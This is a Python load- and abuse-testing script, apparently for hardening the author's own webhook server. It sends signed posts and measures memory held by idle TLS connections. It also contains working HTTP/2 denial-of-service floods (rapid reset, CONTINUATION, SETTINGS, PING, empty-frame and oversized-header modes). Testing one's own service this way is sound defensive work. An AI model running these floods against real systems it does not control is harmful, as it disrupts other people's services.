#!/usr/bin/env python3
"""Clients that no library would be: steady posts beside an attack, HTTP/2 floods, idle connections.

  attack.py post  HOST PORT SECRET SECONDS     signed webhooks, one after the other; prints count, failures, p50, p99
  attack.py flood HOST PORT KIND SECONDS       KIND: reset, continuation, settings, ping, empty, headers, connections
  attack.py idle  HOST PORT PID COUNT SECONDS  TLS connections that say nothing after one request; memory per connection

Needs the Python packages h2 and hyperframe for `flood` alone.
"""
import asyncio, hashlib, hmac, json, socket, ssl, sys, time


def context(protocols=("http/1.1",)):
    tls = ssl.create_default_context()
    tls.check_hostname = False
    tls.verify_mode = ssl.CERT_NONE
    tls.set_alpn_protocols(list(protocols))
    return tls


def memory_kib(pid):
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS"):
            return int(line.split()[1])


def post(host, port, secret, seconds):
    waits, failures, number = [], 0, 0
    # Made once: reading the system's authorities takes longer than a post. Each handshake is a full one all the same.
    tls = context()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        number += 1
        body = json.dumps({"id": f"hardening-{time.time_ns()}", "status": "ringing", "agent_id": "a"}).encode()
        now = int(time.time())
        code = hmac.new(secret.encode(), f"{now}.".encode() + body, hashlib.sha256).hexdigest()
        start = time.monotonic()
        try:
            with socket.create_connection((host, port), 10) as raw:
                # Or the request would wait in the client for the acknowledgement of its handshake's end, some 40 ms.
                raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                with tls.wrap_socket(raw) as connection:
                    connection.sendall(
                        f"POST /webhooks/bolna HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(body)}\r\n"
                        f"Bolna-Signature: t={now},v1={code}\r\nConnection: close\r\n\r\n".encode() + body)
                    failures += not connection.recv(64).startswith(b"HTTP/1.1 200 ")
        except OSError:
            failures += 1
        waits.append(time.monotonic() - start)
        time.sleep(0.02)
    waits.sort()
    print(f"posts {number}, failed {failures}, p50 {waits[len(waits) // 2] * 1e3:.0f} ms, "
          f"p99 {waits[int(len(waits) * 0.99)] * 1e3:.0f} ms, slowest {waits[-1] * 1e3:.0f} ms")


def flood(host, port, kind, seconds):
    from h2.connection import H2Connection
    from h2.config import H2Configuration
    from hyperframe import frame as frames

    fields = [(":method", "GET"), (":scheme", "https"), (":path", "/none"), (":authority", host)]
    connections, sent, goaways, end = 0, 0, {}, time.monotonic() + seconds
    while time.monotonic() < end:
        connections += 1
        try:
            raw = socket.create_connection((host, port), 5)
            tls = context(["h2"]).wrap_socket(raw)
        except OSError:
            continue
        tls.settimeout(5)
        h2 = H2Connection(H2Configuration(client_side=True, validate_outbound_headers=False))
        h2.initiate_connection()
        stream, buffer = 1, b""
        try:
            tls.sendall(h2.data_to_send())
            while time.monotonic() < end:
                block = h2.encoder.encode(fields)
                if kind == "reset":
                    for _ in range(20):
                        head = frames.HeadersFrame(stream, data=block, flags=["END_HEADERS", "END_STREAM"])
                        tls.sendall(head.serialize() + frames.RstStreamFrame(stream, error_code=8).serialize())
                        stream += 2
                        sent += 1
                elif kind == "continuation":
                    tls.sendall(frames.HeadersFrame(stream, data=block, flags=["END_STREAM"]).serialize())
                    for _ in range(1000):
                        tls.sendall(frames.ContinuationFrame(stream, data=h2.encoder.encode([("a", "b" * 100)])).serialize())
                        sent += 1
                elif kind == "settings":
                    tls.sendall(frames.SettingsFrame(0, settings={3: 1}).serialize() * 50)
                    sent += 50
                elif kind == "ping":
                    tls.sendall(frames.PingFrame(0, opaque_data=b"12345678").serialize() * 50)
                    sent += 50
                elif kind == "empty":
                    tls.sendall(frames.HeadersFrame(stream, data=block, flags=["END_HEADERS"]).serialize())
                    for _ in range(50):
                        tls.sendall(frames.DataFrame(stream, data=b"").serialize())
                        sent += 1
                    stream += 2
                elif kind == "headers":
                    big = h2.encoder.encode(fields + [("a", "b" * 16000)])
                    tls.sendall(frames.HeadersFrame(stream, data=big[:16000], flags=["END_STREAM"]).serialize())
                    for _ in range(20):
                        tls.sendall(frames.ContinuationFrame(stream, data=b"\x00\x01a\x7f\x81\x7c" + b"b" * 15999).serialize())
                        sent += 1
                else:
                    tls.close()
                    break
        except OSError:
            pass
        try:
            while True:
                part = tls.recv(65536)
                if not part:
                    break
                buffer += part
        except OSError:
            pass
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if buffer[3] == 7 and len(buffer) >= 17:
                code = int.from_bytes(buffer[13:17], "big")
                goaways[code] = goaways.get(code, 0) + 1
            buffer = buffer[9 + length:]
        tls.close()
    print(f"{kind}: connections {connections}, frames {sent}, GOAWAY by code {goaways}")


async def idle(host, port, pid, count, seconds):
    before = memory_kib(pid)
    tls, writers, failures = context(), [], 0
    gate = asyncio.Semaphore(50)

    async def one():
        nonlocal failures
        async with gate:
            try:
                reader, writer = await asyncio.open_connection(host, port, ssl=tls, ssl_handshake_timeout=60)
                writer.write(f"GET /none HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
                await reader.readuntil(b"\r\n\r\n")
                writers.append(writer)
            except (OSError, asyncio.IncompleteReadError):
                failures += 1

    start = time.monotonic()
    await asyncio.gather(*(one() for _ in range(count)))
    opened = time.monotonic() - start
    print(f"opened {len(writers)}", flush=True)
    await asyncio.sleep(seconds)
    after = memory_kib(pid)
    print(f"idle connections {len(writers)}, failed {failures}, opened in {opened:.0f} s, resident before "
          f"{before // 1024} MiB, after {after // 1024} MiB: {(after - before) / max(len(writers), 1):.1f} KiB each")


if __name__ == "__main__":
    if len(sys.argv) < 5:
        sys.exit(__doc__)
    command, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    if command == "post":
        post(host, port, sys.argv[4], float(sys.argv[5]))
    elif command == "flood":
        flood(host, port, sys.argv[4], float(sys.argv[5]))
    else:
        asyncio.run(idle(host, port, int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6])))
